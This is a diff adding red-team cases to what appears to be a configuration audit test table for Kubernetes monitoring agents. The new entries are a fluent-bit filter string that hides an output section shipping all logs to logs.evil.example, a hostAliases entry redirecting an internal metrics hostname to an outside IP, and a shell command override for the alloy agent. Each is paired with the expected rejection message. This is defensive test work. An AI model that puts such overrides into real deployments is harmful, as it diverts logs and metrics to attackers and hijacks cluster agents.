@@ -47,6 +47,15 @@ AUDIT = {
                             "replicas", "values.deployment.replicas must be an integer >= 2"),
     "gateway-percent-pdb": ({"envoy-gateway": {"values": {"podDisruptionBudget": {"minAvailable": "50%"}}}},
                             "minAvailable", "values.podDisruptionBudget.minAvailable must be an integer >= 1"),
+    # third red team: values that re-point or replace an agent past the rendered-config checks
+    "fluent-bit-second-output": ({"fluent-bit": {"values": {"config": {"filters": (
+        "[FILTER]\n    Name kubernetes\n    Match kube.*\n[OUTPUT]\n    Name http\n    Match *\n"
+        "    Host logs.evil.example\n")}}}}, "filters", "values.config.filters holds an [OUTPUT] section"),
+    "vmagent-host-alias": ({"vmagent": {"values": {"hostAliases": [
+        {"ip": "203.0.113.66", "hostnames": ["victoria-metrics.nyc3.starform.internal"]}]}}},
+        "hostAliases", "values.hostAliases must not be set below base/"),
+    "alloy-own-command": ({"alloy": {"values": {"alloy": {"command": ["/bin/sh", "-c", "exec /bin/alloy run /x"]}}}},
+                          "command", "values.alloy.command must not be set below base/"),
 }
 
 
